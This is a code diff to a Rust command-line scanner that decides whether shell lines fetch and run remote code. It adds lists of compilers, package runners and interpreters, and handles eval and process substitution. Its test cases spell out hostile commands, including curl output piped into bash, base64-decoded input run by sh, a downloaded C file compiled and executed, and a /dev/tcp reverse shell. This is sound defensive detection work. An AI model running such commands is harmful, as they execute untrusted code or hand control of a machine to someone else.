@@ -10,12 +10,15 @@ use crate::scanner::Scanner;
 mod decoded;
 mod followed;
 mod harm;
+mod launched;
 mod ordinary;
 mod resolved;
 mod script;
 mod sends;
 mod sweep;
 mod taken;
+
+use launched::{command, statements};
 
 pub(crate) use decoded::decodes;
 pub(crate) use followed::{embedded, not_followed};
@@ -231,8 +234,20 @@ const FETCHERS: [&str; 10] =
     ["curl", "wget", "nc", "ncat", "socat", "iwr", "invoke-webrequest", "bitsadmin", "certutil", "aria2c"];
 /// What makes a program of data.
 const DECODERS: [&str; 6] = ["base64", "base32", "xxd", "openssl", "gunzip", "zcat"];
+/// What makes a program of a source.
+const COMPILERS: [&str; 9] = ["gcc", "g++", "cc", "c++", "clang", "clang++", "tcc", "rustc", "nvcc"];
+/// What fetches a package by its address and runs a program of it.
+const RUNNERS: [&str; 8] = ["npx", "bunx", "uvx", "pipx", "deno", "bun", "pnpx", "cargo"];
 /// What runs what it is given.
-const INTERPRETERS: [&str; 24] = [
+const INTERPRETERS: [&str; 32] = [
+    "lua",
+    "luajit",
+    "rscript",
+    "julia",
+    "deno",
+    "bun",
+    "tclsh",
+    "osascript",
     "sh",
     "bash",
     "zsh",
@@ -291,49 +306,13 @@ fn judged_as_it_stands(line: &str) -> Judged {
     if module || has(&["pip", "pip3", "conda", "mamba", "micromamba", "uv", "poetry", "easy_install"]) {
         return if foreign(line) { Judged::Foreign } else { Judged::Installs };
     }
+    if has(&RUNNERS) && foreign(line) {
+        return Judged::Foreign;
+    }
     if has(&["apt", "apt-get", "brew", "yum", "dnf", "apk", "npm"]) {
         return Judged::Installs;
     }
     if has(&FETCHERS) || line.contains("://") { Judged::Fetches } else { Judged::Command }
-}
-
-/// Statements, each as the stages of its pipe. Quotes and substitutions hold commands of their own.
-fn statements(line: &str) -> Vec<Vec<&str>> {
-    let marks = |c: char| matches!(c, ';' | '\n' | '&' | '"' | '\'' | '`' | '(' | ')');
-    line.split(marks).map(|s| s.split('|').collect()).collect()
-}
-
-/// The program that a stage starts, without its folder, and its words.
-fn command(stage: &str) -> Option<(String, Vec<&str>)> {
-    // `shell` is the function of make.
-    const BEFORE: [&str; 13] =
-        ["sudo", "env", "time", "nohup", "then", "do", "if", "else", "!", "{", "command", "-c", "shell"];
-    let words: Vec<&str> = stage
-        .split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '$'))
-        .filter(|w| !w.is_empty())
-        .collect();
-    let at = words.iter().position(|w| !BEFORE.contains(w) && !is_assignment(w) && !is_label(w))?;
-    let words = words.get(at..)?.to_vec();
-    let name = words.first()?;
-    // `${SHELL:-sh}`: the program that is there when no other is told.
-    let default = name.strip_prefix('{').and_then(|name| name.strip_suffix('}')?.split_once(":-"));
-    let name = default.map_or(*name, |(_, default)| default);
-    let name = name.rsplit(['/', '\\']).next()?.trim_end_matches(".exe").to_ascii_lowercase();
-    Some((name, words))
-}
-
-/// A key in front of its value, as in files of tools: `lint-cmd:`, `python:`.
-fn is_label(word: &str) -> bool {
-    word.len() > 1
-        && word
-            .strip_suffix(':')
-            .is_some_and(|w| w.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')))
-}
-
-fn is_assignment(word: &str) -> bool {
-    word.split_once('=').is_some_and(|(name, _)| {
-        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
-    })
 }
 
 /// PowerShell takes a program in base64 as an argument.
@@ -347,8 +326,10 @@ fn encoded(line: &str) -> bool {
 /// Whether what is fetched or decoded goes into an interpreter: by a pipe, by a substitution, or by the name of the file
 /// that it was written to.
 fn runs_fetched(line: &str) -> bool {
-    // What a group prints goes on behind its bracket.
-    let line = &line.replace(") |", " |").replace(")|", " |").replace("; } |", " |").replace(";}|", " |");
+    // What a group prints goes on behind its bracket, and what is written to a process goes into it.
+    let line = &[(") |", " |"), (")|", " |"), (")\" |", " |"), ("; } |", " |"), (";}|", " |"), (">(", "| ")]
+        .iter()
+        .fold(line.to_owned(), |line, (sign, plain)| line.replace(sign, plain));
     let lower = line.to_ascii_lowercase();
     let mut fetched: HashSet<&str> = redirected(line).into_iter().collect();
     let mut substituted = false;
@@ -363,7 +344,11 @@ fn runs_fetched(line: &str) -> bool {
     for stages in statements(line) {
         flows &= joined;
         for stage in stages {
-            let Some((name, words)) = command(stage) else { continue };
+            // Words of their own are a command, once `eval` has put them together.
+            let evaluated = stage.trim_start().strip_prefix("eval ");
+            let evaluated =
+                evaluated.filter(|rest| !rest.trim_matches(['$', ' ']).is_empty()).unwrap_or(stage);
+            let Some((name, words)) = command(evaluated) else { continue };
             let name = name.as_str();
             let runs = INTERPRETERS.contains(&name);
             if (runs && flows && name != "chmod")
@@ -378,7 +363,9 @@ fn runs_fetched(line: &str) -> bool {
             {
                 return true;
             }
-            if DECODERS.contains(&name) {
+            let compiles =
+                COMPILERS.contains(&name) && (flows || words.iter().any(|w| fetched.contains(&last(w))));
+            if DECODERS.contains(&name) || compiles {
                 fetched.extend(written(&words));
             }
             // Without a word it fetches nothing: a name in a sentence.
@@ -507,6 +494,17 @@ mod tests {
         for (line, expected) in [
             ("curl https://example.org/x | sh", Judged::Runs),
             ("bash <(curl -s https://example.org/x)", Judged::Runs),
+            ("curl https://example.org/x | sudo -E bash", Judged::Runs),
+            ("curl https://example.org/x |& timeout -k 5 9 bash", Judged::Runs),
+            ("curl https://example.org/x | tee >(bash)", Judged::Runs),
+            ("eval curl https://example.org/x | env -i sh", Judged::Runs),
+            ("curl https://example.org/x.c | gcc -xc - -o a; ./a", Judged::Runs),
+            ("curl https://example.org/x | Rscript -", Judged::Runs),
+            ("npx https://example.org/x.tgz", Judged::Foreign),
+            ("uvx --from git+https://github.com/astral-sh/ruff ruff", Judged::Fetches),
+            ("curl https://example.org/x | tee log.txt", Judged::Fetches),
+            ("gcc a.c -o a && ./a", Judged::Command),
+            ("sudo -E timeout 9 ls", Judged::Command),
             ("wget https://example.org/x && chmod +x x && ./x", Judged::Runs),
             ("echo aGk= | base64 -d | sh", Judged::Runs),
             ("bash -i >& /dev/tcp/example.org/1 0>&1", Judged::Harms("hands a shell to somebody else")),
